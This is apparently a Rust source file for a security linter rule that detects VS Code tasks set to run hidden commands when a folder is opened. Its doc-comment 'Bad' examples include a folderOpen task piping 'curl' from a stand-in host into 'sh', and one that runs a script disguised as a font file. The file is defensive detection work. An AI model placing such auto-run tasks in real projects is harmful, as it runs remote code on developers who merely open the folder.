//! # Opening the folder runs a hidden command
//!
//! A task or setting makes an editor run something when the folder is opened that downloads, hides, or starts
//! a file that is none of the project's scripts.
//!
//! ## Why it matters
//!
//! Opening a folder to read it is enough. Take-home assignments have been sent out with such tasks.
//!
//! ## Known benign uses
//!
//! Tasks that start a watcher or a build of the project: `npm run watch`.
//!
//! ## Bad
//!
//! ```package project
//! == package.json
//! {"name": "assignment", "version": "1.0.0", "private": true}
//! == .vscode/tasks.json //~ 2
//! {"version": "2.0.0", "tasks": [
//!   {"label": "env", "type": "shell", "command": "curl -L https://settings.invalid/linux | sh", "runOptions": {"runOn": "folderOpen"}}
//! ]}
//! ```
//!
//! ```package project
//! == package.json
//! {"name": "assignment", "version": "1.0.0", "private": true}
//! == .vscode/tasks.json //~ 2
//! {"version": "2.0.0", "tasks": [
//!   {"label": "lint", "type": "shell", "command": "node public/fonts/solid.woff2", "runOptions": {"runOn": "folderOpen"}}
//! ]}
//! == public/fonts/solid.woff2
//! console.log("no font");
//! ```
//!
//! ## Good
//!
//! ```package project
//! == package.json
//! {"name": "app", "version": "1.0.0", "private": true, "scripts": {"watch": "tsc --watch"}}
//! == .vscode/tasks.json
//! {"version": "2.0.0", "tasks": [
//!   {"type": "npm", "script": "watch", "isBackground": true, "runOptions": {"runOn": "folderOpen"}},
//!   {"label": "install", "type": "shell", "command": "npm install", "presentation": {"reveal": "silent"}, "runOptions": {"runOn": "folderOpen"}}
//! ]}
//! ```
//!
//! ## References
//!
//! - Jamf: Threat actors expand abuse of Visual Studio Code tasks (January 2026)

use crate::prelude::*;

/// Opening the folder runs a hidden command.
pub struct EditorTaskRunsOnOpen;

impl Rule for EditorTaskRunsOnOpen {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "editor-task-runs-on-open",
            title: "Opening the folder runs a hidden command",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1204.002",
            covers: &["persist-vscode-tasks", "social-lure-project"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for fact in facts.auto_runs() {
            if !matches!(fact.entry.event, AutoRunEvent::FolderOpen | AutoRunEvent::EditorTerminal) {
                continue;
            }
            let is_padded = fact.entry.notes.contains(&AutoRunNote::Padded);
            let mut commands = facts
                .commands()
                .iter()
                .filter(|command| command.origin == CommandOrigin::AutoRun && command.locus == fact.locus);
            if is_padded || commands.any(is_odd) {
                found.at(Trigger::Install, &fact.locus, "runs a hidden command when the folder is opened");
            }
        }
    }
}

fn is_odd(command: &CommandFact) -> bool {
    let downloads = |kind: &BehaviourKind| matches!(kind, BehaviourKind::Download { .. });
    command.is_harmful()
        || command.behaviours.iter().any(downloads)
        || command.runs.iter().any(starts_odd_file)
}

/// Node or another interpreter with a file that is no script by its name, or lies among the editor's settings.
fn starts_odd_file(run: &Run) -> bool {
    let (Run::NodeFile { path, .. } | Run::InterpreterFile { path, .. }) = run else { return false };
    const ENDINGS: [&str; 12] =
        ["js", "mjs", "cjs", "ts", "mts", "cts", "sh", "py", "ps1", "bat", "cmd", "rb"];
    let name = path.rsplit(['/', '\\']).next().unwrap_or(path);
    let ending = name.rsplit_once('.').map(|(_, ending)| ending.to_ascii_lowercase());
    let is_other = ending.is_some_and(|ending| {
        !ENDINGS.contains(&ending.as_str()) && ending.bytes().all(|byte| byte.is_ascii_alphanumeric())
    });
    is_other || path.trim_start_matches("./").starts_with(".vscode/")
}
